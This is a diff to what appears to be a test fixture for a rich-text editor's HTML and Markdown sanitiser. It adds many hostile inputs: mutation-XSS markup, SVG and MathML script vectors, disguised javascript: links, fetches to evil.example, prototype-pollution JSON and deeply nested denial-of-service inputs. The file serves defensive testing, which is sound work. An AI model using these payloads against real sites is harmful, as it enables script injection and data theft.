@@ -43,8 +43,65 @@ const ELEMENTS = [
 	`<p contenteditable=true onfocus="${RUN}">書ける</p>`,
 	`<!--><img src=x onerror="${RUN}">-->`,
 	`<p data-pm-slice="1 1 [&quot;script&quot;,null]">切れ端</p>`,
-	`<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="${RUN}">やる</li></ul>`
+	`<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="${RUN}">やる</li></ul>`,
+	// What changes its meaning when it is written out and parsed once more.
+	`<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
+	`<noscript><style></noscript><img src=x onerror="${RUN}"></style>`,
+	`<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
+	`<svg><desc><noembed></desc><img src=x onerror="${RUN}"></noembed></svg>`,
+	`<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+	`<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+	`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
+	`<math><annotation-xml encoding="text/html"><style></math><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
+	`<table><caption><svg><foreignObject><p></table><img src=x onerror="${RUN}">`,
+	`<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+	`<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
+	`<!--[if gte mso 9]><xml><o:x onload="${RUN}"/></xml><![endif]--><img src=x onerror="${RUN}">`,
+	`<![CDATA[<img src=x onerror="${RUN}">]]>`,
+	`<?xml-stylesheet href="${AWAY}.xsl"?><p>紙</p>`,
+	// SVG and MathML.
+	`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${RUN}"><text y=9>字</text></a></svg>`,
+	`<svg><a><set attributeName=href to="javascript:${RUN}"/><text y=9>字</text></a></svg>`,
+	`<svg><animate attributeName=href values="javascript:${RUN}" dur=1s /></svg>`,
+	`<svg><filter><feImage href="${AWAY}.svg"/></filter></svg>`,
+	`<svg><style>@import url(${AWAY}.css)</style></svg>`,
+	`<svg><handler ev:event="load">${RUN}</handler></svg>`,
+	`<math href="javascript:${RUN}"><mi>式</mi></math>`,
+	`<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">式</maction></math>`,
+	// Other ways to fetch.
+	`<img src=x loading=lazy sizes=100vw srcset="x 1x, ${AWAY}.png 2x">`,
+	`<img lowsrc="${AWAY}" dynsrc="${AWAY}" longdesc="${AWAY}">`,
+	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
+	`<input type=image src="${AWAY}.png" formaction="javascript:${RUN}">`,
+	`<link rel="dns-prefetch preconnect" href="${AWAY}">`,
+	`<link rel=modulepreload href="${AWAY}.js">`,
+	`<script type=module>import '${AWAY}.js'</script>`,
+	`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${AWAY}"]}]}</script>`,
+	`<div style="background-image:image-set('${AWAY}.png' 1x)">絵</div>`,
+	`<div style="list-style:url(${AWAY});cursor:url(${AWAY}),auto;border-image:url(${AWAY})">絵</div>`,
+	`<div style="behavior:url(${AWAY});-moz-binding:url(${AWAY})">絵</div>`,
+	`<style>p{background:\\75\\72\\6c(${AWAY}.png)}</style><p>絵</p>`,
+	`<video><source src onerror="${RUN}"></video>`,
+	`<video controls><track default kind=captions src="${AWAY}.vtt" oncuechange="${RUN}"></video>`,
+	`<object type="text/html" data="data:text/html,<script>parent.ran()</script>"></object>`,
+	`<frameset><frame src="javascript:parent.ran()"></frameset>`,
+	`<fencedframe src="${AWAY}"></fencedframe><portal src="${AWAY}"></portal>`,
+	`<bgsound src="${AWAY}.mid">`,
+	// What takes over the page, or what somebody sees of it.
+	`<meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>`,
+	`<button formaction="javascript:${RUN}">押す</button>`,
+	`<a href="https://example.jp/" ping="${AWAY}" rel=opener target=_self class="dialog shell" title=市 style="position:fixed;inset:0">全面</a>`,
+	`<a href="https://example.jp/" onfocusin="${RUN}" tabindex=0 accesskey=x autofocus>鍵</a>`,
+	`<form name=body><input name=firstChild><img name=getElementById></form>`,
+	`<p id=ran popover onbeforetoggle="${RUN}">浮く</p>`,
+	`<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template>影</div>`,
+	`<p dir=rtl>\u202egnp.\u2066exe.絵</p>`
 ];
+
+/** Deeper than anybody writes. */
+const DEEP = [`${'<blockquote>'.repeat(200)}底`, `${'<ul><li>'.repeat(150)}底`, `${'<table><tr><td>'.repeat(90)}底`];
 
 const HREFS = [
 	`javascript:${RUN}`,
@@ -66,7 +123,71 @@ const HREFS = [
 	`/g/other`,
 	`#invite`,
 	`filesystem:https://evil.example/`,
-	`about:blank`
+	`about:blank`,
+	`javascript\u200b:${RUN}`,
+	`java\u200cscript:${RUN}`,
+	`\u202ejavascript:${RUN}`,
+	`\ufeffjavascript:${RUN}`,
+	`\u3000javascript:${RUN}`,
+	`ｊａｖａｓｃｒｉｐｔ：${RUN}`,
+	`j\u0430vascript:${RUN}`,
+	`javascript\u0000:${RUN}`,
+	`java\rscript:${RUN}`,
+	`javascript://https://example.jp/%0a${RUN}`,
+	`javascript:%0a${RUN}`,
+	`%6aavascript:${RUN}`,
+	`&#x6a;avascript:${RUN}`,
+	`feed:javascript:${RUN}`,
+	`view-source:javascript:${RUN}`,
+	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+	`data:text/html;charset=utf-7,+ADw-script+AD4-ran()+ADw-/script+AD4-`,
+	`data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
+	`jar:https://evil.example!/x`,
+	`mhtml:https://evil.example!x`,
+	`ms-word:ofe|u|https://evil.example/x.docx`,
+	`search-ms:query=x&crumb=location:evil.example`,
+	`\\\\evil.example\\share`,
+	`///evil.example`,
+	`ftp://evil.example`,
+	`chrome://settings`,
+	`sms:+81000000000`,
+	`tel:*%2306%23`,
+	`tel:*#06#`,
+	`https://example.jp@evil.example/`,
+	`https://example.jp:443@evil.example/`
+];
+
+/** Marks that somebody's own program laid on words. */
+export const HOSTILE_MARKS: readonly (readonly [name: string, says: unknown])[] = [
+	['script', {}],
+	['textStyle', { color: `url(${AWAY})` }],
+	['bold', { style: `background:url(${AWAY})` }],
+	['link', { href: { toString: RUN } }],
+	['link', { href: 'https://example.jp/', onclick: RUN }],
+	['link--AAAAAAAA', { href: 'https://example.jp/', style: 'position:fixed;inset:0' }],
+	['link', 'javascript:'],
+	['__proto__', { script: {} }],
+	['constructor', {}],
+	['toString', {}]
+];
+
+/** Text of a Markdown file, besides HTML, which may stand in one as it is. */
+export const HOSTILE_MARKDOWN: readonly string[] = [
+	`[ここ][a]\n\n[a]: javascript:${RUN} "市"`,
+	`<javascript:${RUN}>`,
+	`[ここ](<javascript:${RUN}>)`,
+	`[ここ](javascript&#58;${RUN})`,
+	`[ここ](java&Tab;script&colon;${RUN})`,
+	`![絵](${AWAY}.png "市")`,
+	`![絵][b]\n\n[b]: ${AWAY}.png`,
+	`[![絵](${AWAY}.png)](data:text/html;base64,PHNjcmlwdD4=)`,
+	`\`\`\`"><img src=x onerror=${RUN}>\nコード\n\`\`\``,
+	`| 表 |\n| --- |\n| <img src=x onerror=${RUN}> |`,
+	`- [ ] <input autofocus onfocus=${RUN}> やる`,
+	`<!-- --!><img src=x onerror=${RUN}> -->`,
+	`<div markdown=1 onclick=${RUN}>\n\n[ここ](vbscript:x)\n\n</div>`,
+	`${'> '.repeat(150)}底`,
+	`${Array.from({ length: 90 }, (_, n) => `${'  '.repeat(n)}- 段`).join('\n')}`
 ];
 
 const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
@@ -76,6 +197,7 @@ export const HOSTILE_LINKS: readonly string[] = HREFS;
 /** As HTML: elements alone, within a cell, and addresses in links. */
 export const HOSTILE_HTML: readonly string[] = [
 	...ELEMENTS,
+	...DEEP,
 	...ELEMENTS.map((element) => `<table><tr><td><blockquote>${element}</blockquote></td></tr></table>`),
 	...HREFS.map((href) => `<p><a href="${escaped(href)}" target="_self" onclick="${RUN}">ここ</a></p>`)
 ];
@@ -113,5 +235,24 @@ export const HOSTILE_BLOCKS: readonly (readonly [name: string, attributes: Reado
 	['tableCell', { colspan: 0 }],
 	['tableHeader', { colwidth: Array.from({ length: 10_000 }, () => 1) }],
 	['tableHeader', { colwidth: ['url(https://evil.example)'] }],
-	['taskItem', { checked: 'javascript:' }]
+	['taskItem', { checked: 'javascript:' }],
+	['taskItem', { checked: 1 }],
+	['taskItem', { owner: { html: `<img src=x onerror=${RUN}>` } }],
+	['taskItem', { source: ['x'] }],
+	['photo', { hash: `javascript:${RUN}` }],
+	['photo', { hash: '../../x' }],
+	['heading', { level: 2.5 }],
+	['table', { style: `background:url(${AWAY})` }],
+	['tableRow', { onclick: RUN }],
+	['hardBreak', { clear: 'all' }],
+	['blockquote', { cite: AWAY }],
+	['paragraph', { 'xlink:href': `javascript:${RUN}` }],
+	['paragraph ', {}],
+	['PARAGRAPH', {}],
+	['svg:script', {}],
+	['foreignObject', {}],
+	['hasOwnProperty', {}],
+	// Yjs lays what is called so beneath the attributes, where the editor reads it and a look at their own names does not.
+	['tableCell', JSON.parse('{"__proto__":{"colspan":1000000000}}') as Record<string, unknown>],
+	['heading', JSON.parse('{"__proto__":{"level":1}}') as Record<string, unknown>]
 ];
